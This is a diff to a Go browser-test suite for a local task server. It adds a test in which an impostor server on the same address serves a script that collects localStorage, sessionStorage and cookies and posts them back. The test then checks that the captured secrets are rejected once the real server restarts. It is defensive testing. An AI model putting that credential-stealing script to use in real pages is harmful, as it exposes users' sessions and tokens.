@@ -12,9 +12,11 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
+	"time"
 
 	"github.com/chromedp/cdproto/cdp"
 	"github.com/chromedp/cdproto/emulation"
@@ -393,6 +395,8 @@ func TestAPageOutlivesItsServer(t *testing.T) {
 	s.start()
 	b.sees("second")
 	b.until(`document.getElementById("away").hidden`)
+	b.do(chromedp.Reload()) // what the browser keeps is of the server that runs now
+	b.sees("second")
 	if n := len(s.do("GET", "/tasks", "").is(200).items("items")); n != 2 {
 		t.Errorf("there are %d tasks", n)
 	}
@@ -420,6 +424,50 @@ func TestAProgramInThePlaceOfTheServerGetsNoSession(t *testing.T) {
 	if all := strings.Join(sent, "\n"); !strings.Contains(all, "/sessions/proof") || strings.Contains(all, "Authorization") {
 		t.Errorf("the other program was sent %s", all)
 	}
+}
+
+// A page of a program that takes the place of a server which has ended is one of the same origin: what the browser keeps
+// for it counts for no server any more.
+func TestWhatABrowserKeepsEndsWithTheServer(t *testing.T) {
+	t.Parallel()
+	s := serve(t, "")
+	s.add("first")
+	b := s.browse(1400)
+	b.sees("first")
+	b.do(chromedp.Navigate("about:blank"))
+	s.stop()
+	l, err := net.Listen("tcp", s.address)
+	must(t, err)
+	stolen := make(chan string, 1)
+	other := &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/stolen" {
+			w.Header().Set("Content-Type", "text/html")
+			_, _ = io.WriteString(w, `<script>fetch("/stolen", {method: "POST", body: Object.values({...localStorage, ...sessionStorage}).join("\n") + "\n" + document.cookie})</script>`)
+			return
+		}
+		all, _ := io.ReadAll(r.Body)
+		stolen <- string(all)
+	})}}
+	other.Start()
+	b.do(chromedp.Navigate(s.url))
+	var secrets []string
+	select {
+	case all := <-stolen:
+		secrets = strings.Fields(all)
+	case <-time.After(patience):
+		t.Fatal("the page of the other program was not opened")
+	}
+	other.Close()
+	s.start()
+	if len(secrets) == 0 {
+		t.Error("the browser keeps nothing: this shows nothing")
+	}
+	for _, secret := range secrets {
+		s.do("GET", "/tasks", "", with("Authorization", "Bearer "+secret)).problem(401, "UNAUTHORIZED")
+		s.do("POST", "/sessions", `{"code":`+strconv.Quote(secret)+`}`, without("Authorization")).problem(401, "LINK_EXPIRED")
+	}
+	b.do(chromedp.Navigate(s.url))
+	b.sees("pawl serve link")
 }
 
 // modules returns the folder with the packages of npm that tsc is from.
